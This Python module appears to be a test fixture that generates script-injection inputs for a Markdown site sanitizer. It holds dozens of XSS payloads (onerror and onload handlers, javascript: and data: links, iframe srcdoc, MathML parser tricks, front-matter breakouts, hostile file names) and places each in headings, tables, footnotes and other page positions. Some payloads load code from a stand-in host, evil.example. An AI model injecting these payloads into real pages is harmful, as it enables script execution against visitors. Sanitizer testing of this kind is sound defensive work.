"""Script-injection inputs, generated: payload shapes × the places a page can hold them.

Every input is a piece of a page (or a front matter value, or a file name)
that tries to run `window.__pwned=1`, open a dialog, or load something from
another origin. `archive()` writes them into an archive: one page per place,
each input followed by a visible marker (`MARK-<n>`) that must still show.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

EVIL = "https://evil.example"
RUN = "window.__pwned=1;alert(1)"

# Raw HTML and Markdown that a body, heading, cell or item can carry.
BODY_PAYLOADS = [
    f"<img/onerror={RUN} src=x>",
    f'<img src="x"onerror="{RUN}">',
    f"<img src='x'onerror='{RUN}'>",
    f"<details/open/ontoggle={RUN}>d</details>",
    f"<svg/onload={RUN}>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=9>s</text></a></svg>",
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f'<a href="javascript:{RUN}">a</a>',
    f'<a href="jav&#x09;ascript:{RUN}">b</a>',
    f'<a href=" &#106;avascript:{RUN}">c</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="{EVIL}/x.swf"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f"<input autofocus onfocus={RUN}>",
    f'<form action="javascript:{RUN}"><button>f</button></form>',
    f'<button formaction="javascript:{RUN}">g</button>',
    f'<base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f'<div style="background:url({EVIL}/bg.png)">h</div>',
    f'<style>@import "{EVIL}/x.css";</style>',
    f'<svg><use href="{EVIL}/s.svg#x"/></svg>',
    f"<video src=x onerror={RUN}></video>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<xss onpointerover={RUN} style=display:block>i</xss>",
    '<span id="__config">{"base":"' + EVIL + '","features":[]}</span>',
    f"[k](javascript:{RUN})",
    f"[l](<javascript:{RUN}>)",
    f"![m](javascript:{RUN})",
    "[n](data:text/html,<script>alert(1)</script>)",
    f"<javascript:{RUN}>",
    f'o{{: onclick="{RUN}" }}',
    # Last: HTML inside unclosed MathML loses the text after it (see LOSES_TEXT).
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
]
# Payloads after which the sanitizer's HTML parser drops the rest of the block: an
# unclosed table inside MathML. Nothing runs; the text after it is not kept.
LOSES_TEXT = {BODY_PAYLOADS[-1]}

# Where a report or a page holds a payload: a function from payload to Markdown.
PLACES = {
    "body": lambda p: f"{p}\n",
    "heading": lambda p: f"### {p}\n",
    "admonition-title": lambda p: f'!!! note "{p}"\n    text\n',
    "admonition-body": lambda p: f"!!! note\n    {p}\n",
    "table-cell": lambda p: f"| a | b |\n|---|---|\n| {p} | x |\n",
    "task-item": lambda p: f"- [ ] {p}\n",
    "blockquote": lambda p: f"> {p}\n",
    "details": lambda p: f'??? note "{p}"\n    {p}\n',
    "footnote": lambda p: f"see[^n]\n\n[^n]: {p}\n",
}

# Values for front matter keys that the theme prints or loads.
FRONT_PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><script>{RUN}</script>',
    f"</title><script>{RUN}</script>",
    f"javascript:{RUN}",
    f"' onmouseover='{RUN}",
]
REPORT_KEYS = ["title", "tags", "dataset", "authors", "summary"]
PAGE_KEYS = ["title", "subtitle", "description", "author", "template", "icon", "status",
             "location"]
# Plain pages of every kind: each holds every body payload.
PAGE_KINDS = {
    "page-plain": "",
    "page-typed": "---\ntype: page\ntitle: Typed page\n---\n\n",
    "page-broken-yaml": "---\ntitle: [unclosed\nsubtitle: <script>window.__pwned=1</script>\n"
                        "---\n\n",
}
FILE_NAMES = [
    f"x`[y](javascript:{RUN})`z",
    f"<img src=x onerror={RUN}>",
    "a](javascript:alert(1))[b",
]


@dataclass(frozen=True)
class Input:
    number: int
    place: str
    payload: str

    @property
    def marker(self) -> str:
        return f"MARK-{self.number}"


@dataclass
class Archive:
    inputs: list[Input]
    pages: dict[str, bytes]  # file name -> content


def _quoted(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _report(title: str, body: str, **front: str) -> str:
    from hostile import report

    values = {"title": _quoted(title), **front}
    text = report(**values)
    return text.replace("## 1. Objective", body + "\n## 1. Objective", 1)


def archive() -> Archive:
    """Every input, written into the pages of one archive."""
    inputs: list[Input] = []
    pages: dict[str, bytes] = {}

    def new(place: str, payload: str) -> Input:
        item = Input(len(inputs) + 1, place, payload)
        inputs.append(item)
        return item

    for place, render in PLACES.items():
        parts = []
        for payload in BODY_PAYLOADS:
            item = new(f"report {place}", payload)
            parts.append(render(payload) + f"\n{item.marker}\n")
        pages[f"in-{place}.md"] = _report(f"Payloads in {place}", "\n".join(parts)).encode()
    for kind, head in PAGE_KINDS.items():
        parts = [f"# {kind}\n"]
        for payload in BODY_PAYLOADS:
            item = new(kind, payload)
            parts.append(f"{payload}\n\n{item.marker}\n")
        pages[f"{kind}.md"] = (head + "\n".join(parts)).encode()
    root = ["# Home of a hostile archive\n"]
    for payload in BODY_PAYLOADS[:12]:
        root.append(f"{payload}\n\n{new('root index.md', payload).marker}\n")
    pages["index.md"] = "\n".join(root).encode()
    for key in REPORT_KEYS:
        for index, payload in enumerate(FRONT_PAYLOADS):
            item = new(f"report front matter {key}", payload)
            value = _quoted(payload)
            if key in ("tags", "authors"):
                value = f"[{value}, {_quoted(item.marker)}]"
            title = f"{item.marker} {payload}" if key == "title" else f"{item.marker} {key}"
            text = _report(title, "", **({} if key == "title" else {key: value}))
            pages[f"fm-report-{key}-{index}.md"] = text.encode()
    for key in PAGE_KEYS:
        for index, payload in enumerate(FRONT_PAYLOADS):
            item = new(f"page front matter {key}", payload)
            extra = "template: redirect.html\n" if key == "location" else ""
            pages[f"fm-page-{key}-{index}.md"] = (
                f"---\n{extra}{key}: {_quoted(payload)}\n---\n\n# Page {item.marker}\n\n"
                f"{item.marker}\n").encode()
    for index, name in enumerate(FILE_NAMES):
        new("file name", name)
        # Not UTF-8: the page that replaces it names the file.
        pages[f"{name}-{index}.md"] = b"# caf\xe9\n"
    return Archive(inputs, pages)


def write(folder: Path, made: Archive) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in made.pages.items():
        (folder / name).write_bytes(content)


def unclosed_report(element: str) -> str:
    """A report with an element opened and never closed in the middle of its body."""
    return _report(f"Unclosed {element}", f"Before it.\n\n<{element}>window.__pwned=1\n\n"
                   "AFTER-UNCLOSED is still shown.\n")
